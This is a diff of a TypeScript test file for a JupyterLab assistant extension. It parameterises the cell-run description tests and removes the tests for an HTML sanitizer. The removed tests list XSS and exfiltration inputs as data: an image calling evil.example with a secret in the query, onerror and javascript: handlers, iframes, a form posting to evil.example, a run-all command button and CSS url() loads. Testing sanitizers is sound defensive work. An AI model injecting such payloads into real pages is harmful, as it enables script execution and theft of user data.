@@ -1,7 +1,5 @@
 import { nullTranslator } from '@jupyterlab/translation';
-import { Sanitizer } from '@jupyterlab/apputils/lib/sanitizer';
 import type { CallPart, IApproval, IChange } from '../../src/api/protocol';
-import { withoutRemoteContent } from '../../src/panel/sanitizer';
 import { currentCall, describeCall, duration, endOfRun } from '../../src/wording/callDescriptions';
 import { describeQuestions } from '../../src/wording/questions';
 
@@ -107,16 +105,32 @@ describe('describeCall', () => {
     expect(describeCall(call, [], locate, trans).text).toBe('Running cell 2…');
   });
 
-  it('says how a run ended and how long it took', () => {
-    const output = { text: '', status: 'ok', cell_id: 'b2', seconds: 1.24, outputs: [] };
-    expect(said('run_cell', { cell_id: 'b2' }, { output })).toBe('Ran cell 2 (1.2 s)');
-    const cells = [
-      { cell_id: 'b2', status: 'ok', seconds: 60, outputs: [] },
-      { cell_id: 'c3', status: 'error', seconds: 5, outputs: [] }
-    ];
-    expect(said('run_cells', {}, { output: { text: '', cells } })).toBe(
-      'Ran cells 2–3 (error in cell 3, 1 min 5 s)'
-    );
+  it.each([
+    ['Ran cell 2 (1.2 s)', [['b2', 'ok', 1.24]]],
+    [
+      'Ran cells 2–3 (error in cell 3, 1 min 5 s)',
+      [
+        ['b2', 'ok', 60],
+        ['c3', 'error', 5]
+      ]
+    ],
+    [
+      'Ran cells 2–3 (still running in cell 3)',
+      [
+        ['b2', 'ok', 0],
+        ['c3', 'running', 0]
+      ]
+    ],
+    ['Run cell 2 (queued)', [['b2', 'queued', 0]]],
+    ['Running cell 2 (still running)', [['b2', 'running', 0]]]
+  ])('says what became of runs: %s', (words, runs) => {
+    const cells = runs.map(([cell_id, status, seconds]) => ({
+      cell_id,
+      status,
+      seconds,
+      outputs: []
+    }));
+    expect(said('run_cells', { cell_ids: ['b2'] }, { output: { text: '', cells } })).toBe(words);
   });
 
   it('never says that something was done which was refused or failed', () => {
@@ -223,50 +237,6 @@ describe('duration', () => {
       '12 s',
       '1 min 15 s'
     ]);
-  });
-});
-
-describe('withoutRemoteContent', () => {
-  const { sanitize } = withoutRemoteContent(new Sanitizer());
-
-  it('makes links of pictures from elsewhere', () => {
-    const html = sanitize('<p>see <img src="https://evil.example/?q=secret" alt="a plot"></p>');
-    expect(html).not.toContain('<img');
-    expect(html).toContain('>a plot</a>');
-  });
-
-  it.each([
-    '<img src="x" onerror="alert(1)">',
-    '<video poster="https://evil.example/p"></video>',
-    '<img srcset="https://evil.example/p 2x">',
-    '<script>alert(1)</script>',
-    '<a href="javascript:alert(1)">x</a>',
-    '<iframe src="https://evil.example"></iframe>'
-  ])('leaves nothing that loads or runs in %s', dirty => {
-    expect(sanitize(dirty)).not.toMatch(/src|poster|script|onerror|iframe/i);
-  });
-
-  it.each([
-    '<button data-commandlinker-command="runmenu:run-all">Go on</button>',
-    '<form action="https://evil.example"><label>Go <input name="key"></label>on</form>',
-    '<select><option>Go on</option></select>',
-    '<p accesskey="s">Go on</p>'
-  ])('leaves only the words of %s', dirty => {
-    const html = sanitize(dirty);
-    expect(html).not.toMatch(/command|button|form|input|select|option|accesskey/i);
-    expect(html.replace(/<[^>]*>/g, '')).toBe('Go on');
-  });
-
-  it('leaves no style that loads something or covers something', () => {
-    const html = sanitize(
-      '<p style="color: red; background: url(https://evil.example/p); position: absolute; top: 0">x</p>'
-    );
-    expect(html).toBe('<p style="color: red;">x</p>');
-  });
-
-  it('keeps pictures that carry their content', () => {
-    const picture = '<img src="data:image/png;base64,AAAA" />';
-    expect(sanitize(picture)).toContain('data:image/png');
   });
 });
 
